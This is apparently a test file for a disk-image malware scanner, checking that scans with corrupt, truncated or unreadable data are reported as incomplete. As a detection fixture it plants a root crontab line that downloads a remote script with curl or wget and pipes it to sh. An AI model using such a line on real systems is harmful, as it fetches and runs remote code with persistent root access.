/**
 * The verdict: a scan that could not read something it needed is incomplete (status
 * "incomplete", exit code 3), whatever else it found, and says once what it missed and
 * why. The infected crontab whose EBS block fails its checksum is the case that must
 * never pass as clean; recognised but unreadable volumes, a check that stops, a
 * truncated archive and time budgets are the others.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { mkdir, open, readFile, stat, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { cli } from '../helpers/run-cli.js';
import { buildImage, makeScratchDir, plantTree, removeScratchDir } from '../helpers/images.js';
import { EBS_BLOCK, startFakeAws, type FakeAws } from '../helpers/fake-aws.js';
import { debugfs } from '../helpers/ext4-image.js';
import { resealExt4 } from '../helpers/ext4-reseal.js';
import { ScanInterruptedError, scanTarget, type ScanOptions } from '../../src/engine/scan.js';
import { ALL_CHECKS } from '../../src/checks/index.js';
import { RuleSet } from '../../src/rules/ruleset.js';
import { loadHashLists } from '../../src/hashes/load-hash-list.js';
import type { Check } from '../../src/model/check.js';
import type { ScanReport } from '../../src/model/report.js';

const run = promisify(execFile);
const SNAP = 'snap-0000000000000c0de';
const INFECTED_LINE = '*/10 * * * * root (curl -fsSL http://185.1.1.1/ldr.sh || wget -q -O- http://185.1.1.1/ldr.sh) | sh\n';

describe('the verdict', () => {
  let scratch: string;
  let cronImage: string;
  let crontabBlock: number;
  let gptImage: string;
  let cleanTree: string;
  let base: Omit<ScanOptions, 'checks'>;
  const fakes: FakeAws[] = [];

  beforeAll(async () => {
    process.env.AWS_ACCESS_KEY_ID = 'AKIDTEST';
    process.env.AWS_SECRET_ACCESS_KEY = 'secret';
    process.env.MINESCAN_CLOUD_BACKOFF_MS = '5';
    scratch = await makeScratchDir('minescan-verdict-');
    // A bare ext4 whose /etc/crontab lies alone in its 512 KiB EBS block: written after
    // a 3 MiB filler, which is then removed, so nothing else lives in that block.
    const tree = path.join(scratch, 'tree');
    await mkdir(path.join(tree, 'etc'), { recursive: true });
    await mkdir(path.join(tree, 'var'));
    await writeFile(path.join(tree, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/bash\n');
    await writeFile(path.join(tree, 'var/filler'), Buffer.alloc(3 << 20, 0x5a));
    cronImage = path.join(scratch, 'cron.img');
    await run('mkfs.ext4', ['-q', '-F', '-b', '4096', '-d', tree, cronImage, '16M']);
    await writeFile(path.join(scratch, 'crontab'), INFECTED_LINE);
    await writeFile(path.join(scratch, 'cmds'), `cd /etc\nwrite ${path.join(scratch, 'crontab')} crontab\ncd /var\nrm filler\n`);
    await run('debugfs', ['-w', '-f', path.join(scratch, 'cmds'), cronImage]);
    const block = Number((await debugfs(cronImage, 'bmap /etc/crontab 0')).trim());
    crontabBlock = Math.floor((block * 4096) / EBS_BLOCK);
    expect(crontabBlock).toBeGreaterThan(Math.floor((4096 * Number((await debugfs(cronImage, 'bmap /etc/passwd 0')).trim())) / EBS_BLOCK));

    cleanTree = await plantTree(path.join(scratch, 'clean'), true);
    gptImage = await buildImage(cleanTree, path.join(scratch, 'gpt.img'), { table: 'gpt', sizeMiB: 16 });
    base = { rules: await RuleSet.load([]), hashes: await loadHashLists([]) };
  });
  afterAll(async () => {
    for (const f of fakes) await f.close();
    if (scratch) await removeScratchDir(scratch);
  });

  const snapshotOf = async (image: string, corruptBlocks: number[] = []) => {
    const f = await startFakeAws({ snapshots: { [SNAP]: image }, corruptBlocks });
    fakes.push(f);
    return (...extra: string[]) => cli(['scan', `aws:snapshot/${SNAP}`, '--format', 'json', '--region', 'us-east-1', '--endpoint', f.endpoint, ...extra]);
  };

  it('an infected crontab in a block that fails its checksum: exit 3, one error naming the file and the reason', async () => {
    const intact = await (await snapshotOf(cronImage))();
    expect(intact.code).toBe(1);
    expect(JSON.parse(intact.stdout).findings.some((f: { path: string }) => f.path === '/etc/crontab')).toBe(true);

    const { code, stdout } = await (await snapshotOf(cronImage, [crontabBlock]))();
    expect(code).toBe(3);
    const report: ScanReport = JSON.parse(stdout);
    expect(report.status).toBe('incomplete');
    expect(report.findings.filter((f) => f.path === '/etc/crontab')).toEqual([]);
    expect(report.errors).toHaveLength(1);
    expect(report.errors[0]).toMatchObject({
      kind: 'corrupt',
      path: '/etc/crontab',
      structure: 'EBS snapshot block',
      offset: crontabBlock * EBS_BLOCK,
      message: expect.stringMatching(/fails its SHA-256 checksum/),
    });
    expect(report.errorsOmitted).toBe(0);

    // Exit 3 takes precedence over 1, and over --fail-on none.
    expect((await (await snapshotOf(cronImage, [crontabBlock]))('--fail-on', 'none')).code).toBe(3);
  });

  it('says what failed and where when the block holding a filesystem superblock fails, not "nothing found"', async () => {
    // Bare ext4: its superblock lies in EBS block 0 with everything else at the start; nothing can be read.
    const bare = await (await snapshotOf(cronImage, [0]))();
    expect(bare.code).toBe(2);
    expect(bare.stderr).toMatch(/EBS snapshot block at offset 0: block 0 fails its SHA-256 checksum/);
    expect(bare.stderr).not.toMatch(/no partition table or filesystem/);

    // GPT disk: the table reads, the partition's first block (at 1 MiB) does not.
    const { code, stdout } = await (await snapshotOf(gptImage, [(1 << 20) / EBS_BLOCK]))();
    expect(code).toBe(3);
    const report: ScanReport = JSON.parse(stdout);
    expect(report.source!.volumes).toHaveLength(1);
    expect(report.source!.volumes[0]).toMatchObject({ scheme: 'gpt', scanned: false });
    expect(report.errors).toEqual([
      expect.objectContaining({ kind: 'corrupt', volume: 0, structure: 'EBS snapshot block', offset: 1 << 20, message: expect.stringMatching(/block 2 fails its SHA-256 checksum/) }),
    ]);
  });

  it('a recognised filesystem it cannot read (an unknown ext4 incompatible feature) is incomplete, not a volume note', async () => {
    const image = path.join(scratch, 'incompat.img');
    await run('cp', [gptImage, image]);
    // The partition starts at 1 MiB; s_feature_incompat is at 0x60 in the superblock at 1024.
    // Its checksum is made right again: a mismatch would send minescan to the backup copy.
    const fh = await open(image, 'r+');
    const head = Buffer.alloc(2048);
    await fh.read(head, 0, 2048, 1 << 20);
    head.writeUInt32LE(head.readUInt32LE(1024 + 0x60) | 0x4000000, 1024 + 0x60);
    resealExt4(head);
    await fh.write(head, 0, 2048, 1 << 20);
    await fh.close();
    const { code, stdout } = await cli(['scan', image, '--format', 'json']);
    expect(code).toBe(3);
    const report: ScanReport = JSON.parse(stdout);
    expect(report.errors).toEqual([
      expect.objectContaining({ kind: 'unsupported', volume: 0, structure: 'ext4 superblock', message: expect.stringMatching(/incompatible features 0x4000000/) }),
    ]);
    expect(report.source!.volumes[0]!.notes.join()).toMatch(/incompatible features/);
  });

  it('a truncated disk image is incomplete, even where what is missing lies past every file the checks read', async () => {
    const cut = path.join(scratch, 'cut.img');
    await run('cp', [cronImage, cut]);
    await truncate(cut, 12 << 20);
    const { code, stdout } = await cli(['scan', cut, '--format', 'json', '--fail-on', 'none']);
    expect(code).toBe(3);
    const report: ScanReport = JSON.parse(stdout);
    expect(report.errors).toEqual([
      { kind: 'corrupt', volume: 0, structure: 'ext4 filesystem', offset: 12 << 20, message: expect.stringMatching(/image ends after 12582912 of the filesystem's 16777216 bytes/) },
    ]);
  });

  it('a filesystem minescan recognises but does not read (btrfs) is incomplete; swap, which holds no files, is not', async () => {
    const btrfs = path.join(scratch, 'btrfs.img');
    await writeFile(btrfs, '');
    await truncate(btrfs, 128 << 20);
    await run('mkfs.btrfs', ['-q', '-f', btrfs]);
    const { code, stdout } = await cli(['scan', btrfs, '--format', 'json']);
    expect(code).toBe(3);
    const report: ScanReport = JSON.parse(stdout);
    expect(report.errors).toEqual([{ kind: 'unsupported', volume: 0, structure: 'filesystem', message: 'filesystem: btrfs is recognised but not read yet' }]);
    expect(report.source!.volumes[0]!.notes).toEqual(['btrfs is recognised but not read yet']);

    const swap = path.join(scratch, 'swap.img');
    await writeFile(swap, '');
    await truncate(swap, 16 << 20);
    await run('mkswap', [swap]);
    const swapped = await cli(['scan', swap, '--format', 'json']);
    expect(swapped.code).toBe(0);
    expect(JSON.parse(swapped.stdout)).toMatchObject({ status: 'complete', errors: [], source: { volumes: [{ filesystem: 'swap', scanned: false, notes: ['swap space holds no files'] }] } });
  });

  it('a check that throws makes the scan incomplete, naming the check; the other checks still run', async () => {
    const explodes: Check = { id: 'explodes', description: 'throws', paths: [], run: async () => Promise.reject(new Error('boom')) };
    const report = await scanTarget(cleanTree, { ...base, checks: [explodes, ...ALL_CHECKS] });
    expect(report.status).toBe('incomplete');
    expect(report.errors).toEqual([{ kind: 'check-failed', check: 'explodes', message: 'check explodes stopped: boom' }]);
    expect(report.stats.filesExamined).toBeGreaterThan(0);
    const clean = await scanTarget(cleanTree, { ...base, checks: ALL_CHECKS });
    expect(clean).toMatchObject({ status: 'complete', errors: [], errorsOmitted: 0 });
  });

  it('the same error met many times is one entry with a count', async () => {
    let calls = 0;
    const repeats: Check = {
      id: 'repeats',
      description: 'reports one unreadable file a hundred times',
      paths: ['/etc/passwd'],
      run: async (ctx) => {
        for (let i = 0; i < 100; i++, calls++) ctx.error('/etc/passwd', new Error('same failure'));
      },
    };
    const report = await scanTarget(cleanTree, { ...base, checks: [repeats] });
    expect(calls).toBe(100);
    expect(report.errors).toEqual([{ kind: 'other', path: '/etc/passwd', message: 'same failure', count: 100 }]);
  });

  it('bounds the list of errors and counts the rest', async () => {
    const floods: Check = {
      id: 'floods',
      description: 'reports many different unreadable files',
      paths: [],
      run: async (ctx) => {
        for (let i = 0; i < 1000; i++) ctx.error(`/f${i}`, new Error('unreadable'));
      },
    };
    const report = await scanTarget(cleanTree, { ...base, checks: [floods] });
    expect(report.errors.length).toBeLessThan(1000);
    expect(report.errors.length + report.errorsOmitted).toBe(1000);
    expect(report.status).toBe('incomplete');
  });

  it('a truncated archive, plain or compressed, is incomplete, never clean', async () => {
    const tar = path.join(scratch, 'root.tar');
    await run('tar', ['-C', cleanTree, '-cf', tar, '.']);
    const whole = await cli(['scan', tar, '--format', 'json']);
    expect(whole.code).toBe(0);
    const { size } = await stat(tar);
    const cut = Math.floor(size / 2 / 512) * 512;
    await truncate(tar, cut);
    const { code, stdout, stderr } = await cli(['scan', tar, '--format', 'json']);
    expect(code).toBe(3);
    expect(stderr).toMatch(/root\.tar: INCOMPLETE, 1 thing\(s\) the scan needed could not be read/);
    const report: ScanReport = JSON.parse(stdout);
    expect(report.status).toBe('incomplete');
    expect(report.errors).toEqual([expect.objectContaining({ kind: 'corrupt', structure: 'tar archive', offset: cut, message: expect.stringMatching(/cut short/) })]);
    const text = await cli(['scan', tar, '--format', 'text']);
    expect(text.code).toBe(3);
    expect(text.stdout.split('\n')[1]).toMatch(/^INCOMPLETE: 1 thing\(s\) the scan needed could not be read/);
    expect(text.stdout).toMatch(/Not read \(the scan went on, but it is incomplete\):\n  corrupt +\[volume 0\] tar archive at offset \d+: the archive ends at byte/);

    const tgz = path.join(scratch, 'root.tar.gz');
    await run('tar', ['-C', cleanTree, '-czf', tgz, '.']);
    await truncate(tgz, Math.floor((await stat(tgz)).size / 2));
    const gz = await cli(['scan', tgz, '--format', 'json']);
    // The files before the cut are kept and scanned; the rest is an error: incomplete, not unreadable.
    expect(gz.code).toBe(3);
    expect(JSON.parse(gz.stdout)).toMatchObject({ status: 'incomplete', errors: [{ message: expect.stringMatching(/gzip stream.*unexpected end of file.*entries before it were read/) }] });
  });

  describe('time budgets and cancellation', () => {
    it('a spent time budget gives the report of what was done, incomplete, with a limit error naming where it stopped', async () => {
      const opening = await scanTarget(gptImage, { ...base, checks: ALL_CHECKS, timeBudgetMs: 0 });
      expect(opening).toMatchObject({ status: 'incomplete', source: null, findings: [] });
      expect(opening.errors).toEqual([{ kind: 'limit', message: expect.stringMatching(/time budget of 0s reached during opening the target/) }]);

      const checks = await scanTarget(gptImage, { ...base, checks: ALL_CHECKS, phaseBudgetsMs: { checks: 0 } });
      expect(checks.source!.volumes[0]).toMatchObject({ filesystem: 'ext4', scanned: true });
      expect(checks.errors).toEqual([{ kind: 'limit', check: ALL_CHECKS[0]!.id, message: expect.stringMatching(/for the checks reached during check/) }]);
      expect(checks.stats.filesExamined).toBe(0);

      const ample = await scanTarget(gptImage, { ...base, checks: ALL_CHECKS, timeBudgetMs: 3_600_000, phaseBudgetsMs: { open: 3_600_000, checks: 3_600_000 } });
      expect(ample).toMatchObject({ status: 'complete', errors: [] });
    });

    it('--time-budget writes the incomplete report and exits 3; a malformed duration is bad usage', async () => {
      const out = path.join(scratch, 'budget.json');
      const { code } = await cli(['scan', gptImage, '--time-budget', '0s', '--output', out, '--quiet']);
      expect(code).toBe(3);
      const report: ScanReport = JSON.parse(await readFile(out, 'utf8'));
      expect(report.errors[0]).toMatchObject({ kind: 'limit' });
      expect((await cli(['scan', gptImage, '--time-budget', 'soon'])).code).toBe(2);
      expect((await cli(['scan', gptImage, '--checks-time-budget', '1h', '--open-time-budget', '10m', '--format', 'json'])).code).toBe(0);
    });

    it('an aborted signal stops the reads of the running check at once and gives no report', async () => {
      // A tree of many files, so that the walk is far from done when the check cancels the scan.
      const many = path.join(scratch, 'many');
      await mkdir(many);
      for (let i = 0; i < 200; i++) await writeFile(path.join(many, `f${i}`), `file ${i}\n`);
      const files = 200;
      const controller = new AbortController();
      let readsAfterAbort = 0;
      let reads = 0;
      let finished!: Promise<void>;
      const reader: Check = {
        id: 'reader',
        description: 'reads every file, and cancels the scan after the fifth',
        paths: ['/**'],
        run: (ctx) =>
          (finished = (async () => {
            for await (const entry of ctx.vfs.walk(['/**'])) {
              if (entry.stat.type !== 'file') continue;
              try {
                await ctx.vfs.readFile(entry.path);
              } catch {
                readsAfterAbort++;
                continue;
              }
              if (++reads === 5) controller.abort();
            }
          })()),
      };
      await expect(scanTarget(many, { ...base, checks: [reader], signal: controller.signal })).rejects.toBeInstanceOf(ScanInterruptedError);
      // The check goes on in the background until its next read or walk step, which throw.
      await expect(finished).rejects.toThrow(/interrupted/);
      expect(reads).toBe(5);
      expect(files).toBeGreaterThan(5 + 32);
      // Each read after the abort failed at once, and the walk stopped at its next batch of entries.
      expect(readsAfterAbort).toBeLessThanOrEqual(32);
      await expect(scanTarget(cleanTree, { ...base, checks: [reader], signal: controller.signal })).rejects.toBeInstanceOf(ScanInterruptedError);
    });
  });
});
